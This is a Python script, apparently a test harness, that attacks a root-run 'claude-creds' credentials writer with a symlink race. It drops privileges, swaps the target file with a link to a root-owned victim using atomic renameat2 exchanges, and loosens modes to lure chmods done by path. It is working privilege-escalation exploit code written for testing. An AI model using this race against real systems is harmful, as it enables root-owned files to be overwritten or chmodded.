#!/usr/bin/env python3
"""The worker's uid attacking a root claude-creds that writes into a directory the worker owns.

Started as root (so any python3 on PATH will do), it drops to the given uid/gid with no supplementary
groups before touching anything, then swaps, as fast as it can until killed, two names in one directory
with renameat2(RENAME_EXCHANGE): `target` (the credentials file, or the config directory) and `decoy`
(a symbolic link to a root-owned victim). Each exchange is atomic, so at any instant either name may
be the link: a writer that checks a path and then acts on it by path is sooner or later fooled. It also
keeps its own file 0644, so a writer that finds it "identical but with the wrong mode" chmods it by path.

Usage: swap-attacker.py UID GID DIR TARGET_NAME DECOY_NAME VICTIM
Prints "ready" once the decoy exists and the first exchange succeeded, then "swaps=N" on SIGTERM.
"""
import ctypes
import os
import platform
import signal
import stat
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}


def exchange_function():
    libc = ctypes.CDLL(None, use_errno=True)
    if hasattr(libc, "renameat2"):
        fn = libc.renameat2
        fn.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]
        return lambda a, b: fn(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
    number = SYS_RENAMEAT2.get(platform.machine())
    if number is None:
        sys.exit(f"no renameat2 on {platform.machine()}")
    syscall = libc.syscall
    return lambda a, b: syscall(number, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)


def rearm(target, decoy, victim):
    """A writer that renames its file over the link at `target` removes the link: plant a new one."""
    for name in (target, decoy):
        try:
            if os.path.islink(name):
                return
        except OSError:
            pass
    try:
        if os.path.isfile(decoy) and not os.path.islink(decoy):
            os.unlink(decoy)
        os.symlink(victim, decoy)
    except OSError:
        pass


def loosen(*names):
    """Makes the worker's own regular file 0644, so a writer that sees it wants to chmod it back: by path."""
    for name in names:
        try:
            fd = os.open(name, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if stat.S_ISREG(os.fstat(fd).st_mode):
                os.fchmod(fd, 0o644)
        except OSError:
            pass
        finally:
            os.close(fd)


def main():
    uid, gid, directory, target_name, decoy_name, victim = sys.argv[1:7]
    os.setgroups([])
    os.setresgid(int(gid), int(gid), int(gid))
    os.setresuid(int(uid), int(uid), int(uid))
    target = os.path.join(directory, target_name).encode()
    decoy = os.path.join(directory, decoy_name).encode()
    try:
        os.unlink(decoy)
    except FileNotFoundError:
        pass
    os.symlink(victim, decoy)
    swap = exchange_function()
    swaps = 0
    stop = False

    def on_term(_signum, _frame):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    announced = False
    while not stop:
        if swap(target, decoy) == 0:
            swaps += 1
            if not announced:
                print("ready", flush=True)
                announced = True
        elif not announced and ctypes.get_errno() != 2:
            sys.exit(f"renameat2 failed: errno {ctypes.get_errno()}")
        if swaps % 8 == 0:
            loosen(target, decoy)
        if swaps % 32 == 0:
            rearm(target, decoy, victim)
    print(f"swaps={swaps}", flush=True)


main()
